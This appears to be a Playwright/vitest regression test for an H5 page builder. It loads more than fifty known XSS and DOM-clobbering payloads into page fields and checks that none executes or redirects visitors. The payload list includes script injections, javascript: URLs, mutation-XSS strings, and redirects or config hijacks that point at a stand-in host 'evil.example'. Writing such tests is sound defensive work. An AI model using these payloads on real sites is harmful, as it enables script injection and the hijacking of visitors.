import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { launchBrowser, openPhonePage } from './support/browser.ts';
import { startTestServer } from './support/test-server.ts';
import type { TestServer } from './support/test-server.ts';
import { screenshot } from './support/screenshots.ts';

// Known XSS and DOM-clobbering vectors in every text field a page file has (title, meta, button
// text, marquee, image alt) and in the code block: a visitor opens each page and uses it, and
// none runs (a window flag and dialogs are watched) or sends the visitor elsewhere.

const SCREENSHOTS = new URL('../.tmp/screenshots/', import.meta.url).pathname;
const RUN = 'top.__xss=(top.__xss||0)+1;alert(1)';
const EVIL = 'https://evil.example/';

const VECTORS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onerror=${RUN}//>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<body onload="${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}" id="xss-link">点我</a>`,
  `<a href="JaVaScRiPt:${RUN}">点我</a>`,
  `<a href="&#106;avascript:${RUN}">点我</a>`,
  `<a href="java\tscript:${RUN}">点我</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">点我</a>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div onmouseover="${RUN}" style="width:100%;height:40px">悬停</div>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>提交</button></form>`,
  `<button formaction="javascript:${RUN}">提交</button>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}">`,
  `<link rel="import" href="${EVIL}">`,
  `<style>@import '${EVIL}x.css';</style>`,
  `<a href="${EVIL}" style="position:fixed;inset:0;z-index:99999;display:block">全屏</a>`,
  `<div style="position:sticky;top:0;height:100vh">粘住</div>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img """><script>${RUN}</script>">`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<div id="__H5_DATA__">{"config":{"apiBase":"${EVIL}"}}</div>`,
  `<img name="__H5_DATA__" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  `<form id="root"><input name="innerHTML"></form>`,
  `<a id="__H5_DATA__"></a><a id="__H5_DATA__" name="textContent" href="${EVIL}">x</a>`,
  `<p id="user-content-x" name="defaultView">x</p>`,
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  `$' $& $\` <b>粗</b>`,
  `\u2028\u2029<script>${RUN}</script>`,
];

let server: TestServer;
let browser: Browser;
const PAGES = 6;

const codeOfPage = (index: number) => `xss-${index}`;

beforeAll(async () => {
  server = await startTestServer({ appEnv: 'development' });
  browser = await launchBrowser();
  for (let p = 0; p < PAGES; p += 1) {
    const mine = VECTORS.filter((_, i) => i % PAGES === p);
    await server.importPage({
      code: codeOfPage(p),
      title: mine[0]!,
      meta: { keywords: mine[1] ?? '', description: mine[2] ?? '' },
      background: '#ffffff',
      is_auto_fit: 0,
      extra: { pageID: 9000 + p },
      page_schema: mine.flatMap((vector) => [
        { name: 'code', value: { html: vector }, children: [] },
        {
          name: 'button',
          value: { type: 'text', text: vector, action: { type: 3, popupId: 'none' } },
          children: [],
        },
        { name: 'marquee', value: { content: vector }, children: [] },
        {
          name: 'image',
          value: { url: '/favicon.ico', alt: vector, width: 10, height: 10 },
          children: [],
        },
      ]),
    });
  }
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

describe(`${VECTORS.length} XSS and clobbering vectors`, () => {
  it('none runs and none sends the visitor elsewhere', async () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(50);
    for (let p = 0; p < PAGES; p += 1) {
      const { page, context } = await openPhonePage(browser);
      const dialogs: string[] = [];
      const navigations: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      page.on('framenavigated', (frame) => {
        if (frame === page.mainFrame()) navigations.push(frame.url());
      });
      const foreign: string[] = [];
      page.on('request', (request) => {
        if (request.url().startsWith(EVIL)) foreign.push(request.url());
      });
      try {
        const url = `${server.origin}/h5-page/h5/${codeOfPage(p)}`;
        await page.goto(url, { waitUntil: 'networkidle' });
        // Use the page: hover and click what content put there (not its links to other sites,
        // which a visitor follows on purpose), tap the screen where an overlay would lie.
        for (const target of await page
          .locator('.h5-code a:not([href^="http"]), .h5-code button, .h5-code div')
          .all()) {
          await target.hover({ timeout: 500 }).catch(() => {});
          await target.click({ timeout: 500, noWaitAfter: true }).catch(() => {});
        }
        await page.keyboard.press('Tab');
        await page.mouse.move(100, 100);
        for (const y of [100, 400, 700]) await page.mouse.click(187, y);
        await page.waitForLoadState('networkidle');
        await screenshot(page, { path: `${SCREENSHOTS}security-xss-${p}.png`, fullPage: false });
        const ran = await page.evaluate(() => (window as unknown as { __xss?: number }).__xss);
        expect(ran, `page ${p}`).toBeUndefined();
        expect(dialogs, `page ${p}`).toEqual([]);
        expect(foreign, `page ${p}`).toEqual([]);
        expect(new URL(page.url()).origin, `page ${p}`).toBe(server.origin);
        expect(
          navigations.every((n) => n.startsWith(server.origin)),
          `page ${p}`,
        ).toBe(true);
        // The page data is still the server's: the title field reads as text.
        expect(await page.title()).toBe(VECTORS[p]);
      } finally {
        await context.close();
      }
    }
  });
});
